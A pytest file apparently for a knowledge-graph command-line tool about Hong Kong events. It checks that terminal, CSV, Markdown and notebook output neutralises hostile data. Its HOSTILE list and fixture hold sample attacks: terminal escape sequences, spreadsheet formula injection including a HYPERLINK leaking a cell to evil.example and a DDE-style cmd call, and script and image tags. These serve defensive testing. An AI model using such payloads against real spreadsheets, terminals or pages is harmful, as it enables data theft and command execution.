"""Output that fits its reader and cannot attack it: tables fitted to a terminal, CSV that a
spreadsheet will not run, Markdown that renders as text, no terminal escapes from the data."""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
import subprocess
import sys

import pytest

from kg.cli import cli
from kg.sparql.render import csv_safe, display_width, fit_widths, markdown, printable, rows_to_csv, table

HOSTILE = [
    "red\x1b[31mALERT\x1b[0m",  # an ANSI colour
    "\x1b]0;pwned\x07title",  # a window title (OSC ... BEL)
    "\x9b31mC1 CSI",  # the 8-bit CSI
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "<script>alert(1)</script>",
    "![x](http://evil.example/x.png)",
    '<img src="http://evil.example/y.png">',
    "[link](javascript:alert(1))",
]


# ----------------------------------------------------------------------------- terminal tables


def test_table_fits_the_width_and_marks_what_it_cut():
    rows = [["2020-06-30", "x" * 120, "statement", "Amnesty International, HRW"], ["2021", "short", "", "香港" * 30]]
    for width in (40, 60, 80, 120):
        text = table(["date", "event", "type", "actors"], rows, width)
        lines = text.splitlines()
        assert all(display_width(line) <= width for line in lines), width
        assert "…" in text
        assert lines[-1] == "(2 rows)"


def test_table_without_a_width_gives_every_cell_in_full():
    text = table(["event"], [["x" * 300]])
    assert "x" * 300 in text and "…" not in text


def test_fit_widths_keeps_narrow_and_kept_columns():
    assert fit_widths([4, 200, 10], 80) == [4, 62, 10]
    assert fit_widths([24, 90, 90], 80, keep=[0])[0] == 24


def test_double_width_characters_are_counted_as_two_columns():
    text = table(["name"], [["香港民間人權陣線" * 4]], 20)
    assert all(display_width(line) <= 20 for line in text.splitlines())


@pytest.mark.parametrize("value", HOSTILE[:3])
def test_control_characters_never_reach_the_terminal(value):
    shown = printable(value)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert "\\x1b" in shown or "\\x9b" in shown
    text = table(["label"], [[value]], 80)
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text


# ----------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("value", [v for v in HOSTILE if v[0] in "=+-@"])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(value):
    (row,) = list(csv.reader(io.StringIO(rows_to_csv(["a"], [[value]]))))[1:]
    assert row == ["'" + value]


def test_csv_keeps_numbers_and_ordinary_text():
    assert [csv_safe(v) for v in ("-3", "+4.5", "1e-3", "Amnesty", "", 7)] == ["-3", "+4.5", "1e-3", "Amnesty", "", 7]
    assert csv_safe("\tx") == "'\tx" and csv_safe("\rx") == "'\rx"


def test_kg_query_csv_is_safe_in_a_spreadsheet(invoke):
    query = 'SELECT ?v WHERE { VALUES ?v { "=HYPERLINK(\\"http://evil.example\\")" "-1" "@cmd" } }'
    result = invoke("query", query, "--format", "csv")
    values = [r[0] for r in csv.reader(io.StringIO(result.output))][1:]
    assert values == ['\'=HYPERLINK("http://evil.example")', "-1", "'@cmd"]


# ----------------------------------------------------------------------------- Markdown


def _rendered(md: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(md)


def test_markdown_renders_every_hostile_string_as_text():
    html = _rendered(markdown(["label"], [[v] for v in HOSTILE]))
    assert "<table>" in html
    for tag in ("<script", "<img", "<a "):
        assert tag not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, not run


def test_markdown_keeps_the_text_readable():
    html = _rendered(markdown(["event"], [["Open letter of 86 organisations (2020) — Li Zhanshu"]]))
    assert "Open letter of 86 organisations (2020) — Li Zhanshu" in html


# ----------------------------------------------------------------------------- commands


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """An on-disk store of the mini graph whose event and actor labels are hostile strings."""
    from conftest import FIXTURES

    import kg

    nt = kg.load(FIXTURES / "mini").export("nt").decode()
    nt = nt.replace('"National security law takes effect in Hong Kong"', '"NSL \\u001B[31mRED\\u001B]0;t\\u0007"')
    nt = nt.replace('"Agnes Callamard"', '"=HYPERLINK(\\"http://evil.example\\")<script>x</script>"')
    root = tmp_path_factory.mktemp("hostile")
    (root / "g.nt").write_text(nt, encoding="utf-8")
    store = root / "store"
    done = subprocess.run(
        [sys.executable, "-m", "kg", "load", str(root / "g.nt"), "--store", str(store)], capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    return store


def _kg(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kg", *args], capture_output=True, text=True)


def test_timeline_and_show_print_no_escape_sequence_from_the_data(hostile_store):
    for args in (("timeline",), ("timeline", "--width", "60"), ("show", "Amnesty International")):
        done = _kg("--store", str(hostile_store), *args)
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout and "\x07" not in done.stdout
        assert "NSL \\x1b[31mRED" in done.stdout or "NSL \\x1b" in done.stdout


def test_timeline_csv_and_md_of_hostile_labels(hostile_store):
    done = _kg("--store", str(hostile_store), "timeline", "--format", "csv")
    actors = [r["actors"] for r in csv.DictReader(io.StringIO(done.stdout))]
    assert any(a.startswith("'=HYPERLINK") for a in actors)
    done = _kg("--store", str(hostile_store), "timeline", "--format", "md")
    assert "<script" not in _rendered(done.stdout)


def test_a_terminal_gets_a_fitted_table_and_a_pipe_the_full_text(tmp_path):
    import pty

    env = {**os.environ, "COLUMNS": "80", "LINES": "40"}
    leader, follower = pty.openpty()
    proc = subprocess.run([sys.executable, "-m", "kg", "timeline"], stdout=follower, stderr=subprocess.PIPE, env=env)
    os.close(follower)
    out = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:
            break
        if not chunk:
            break
        out += chunk
    os.close(leader)
    assert proc.returncode == 0
    lines = out.decode().replace("\r\n", "\n").splitlines()
    assert len(lines) > 30 and all(display_width(line) <= 80 for line in lines)
    piped = _kg("timeline")
    assert "Open letter of 86 organisations to Li Zhanshu on the proposed national security law" in piped.stdout
    assert max(len(line) for line in piped.stdout.splitlines()) > 80


@pytest.mark.parametrize("command", [["timeline"], ["stats"], ["queries"], ["query", "signatories"]])
@pytest.mark.parametrize("fmt", ["csv", "tsv", "json", "md", "table"])
def test_every_row_command_takes_the_same_output_options(runner, tmp_path, command, fmt):
    out = tmp_path / f"out.{fmt}"
    result = runner.invoke(cli, [*command, "--format", fmt, "-o", str(out), "--width", "60"])
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 20
    assert f"wrote {out}" in result.output


def test_show_wraps_at_the_width_and_prints_each_quote_once(invoke):
    text = invoke("show", "Li Zhanshu", "--width", "72").output
    assert all(display_width(line) <= 72 for line in text.splitlines())
    assert text.count("National People's Congress Chairman delivers a speech”") == 1


# ----------------------------------------------------------------------------- notebooks


def test_select_result_to_dataframe_and_html(graph):
    result = graph.query(
        "SELECT ?e ?label ?day WHERE { ?e a sem:Event ; rdfs:label ?label ; "
        "sem:hasEarliestBeginTimeStamp ?day } ORDER BY ?day LIMIT 5"
    )
    df = result.to_dataframe()
    assert list(df.columns) == ["e", "label", "day"] and len(df) == 5
    assert all(isinstance(d, datetime.date) for d in df["day"])
    html = result._repr_html_()
    assert html.startswith("<table>") and html.count("<tr>") == 6
    assert repr(result) == "<SelectResult: 5 rows of e, label, day>"


def test_html_of_results_escapes_data(graph):
    html = graph.query('SELECT ?x WHERE { BIND("<script>alert(1)</script>" AS ?x) }')._repr_html_()
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_show_has_html_for_notebooks(graph):
    info = graph.show("Li Zhanshu")
    html = info._repr_html_()
    assert html.startswith("<pre>") and "Li Zhanshu" in html


def test_timelines_are_tables_in_notebooks_and_dataframes(graph):
    events = graph.timeline(start="2020-06-01", end="2020-06-30")
    assert json.loads(json.dumps(events)) == [dict(e) for e in events]  # still plain JSON
    df = events.to_dataframe()
    assert len(df) == len(events) and "roles" not in df.columns
    assert all(isinstance(d, datetime.date) for d in df["earliest_begin"])
    html = events._repr_html_()
    assert html.count("<tr>") == len(events) + 1 and "Open letter of 86 organisations" in html


@pytest.mark.parametrize("text", ["# Heading", "1. one", "- item", "+ item", "=== rule"])
def test_markdown_text_starting_a_line_opens_no_block(text):
    from kg.sparql.render import markdown_cell

    html = _rendered(f"- {markdown_cell(text)}\n")
    assert html.replace("\n", "") == f"<ul><li>{text}</li></ul>"
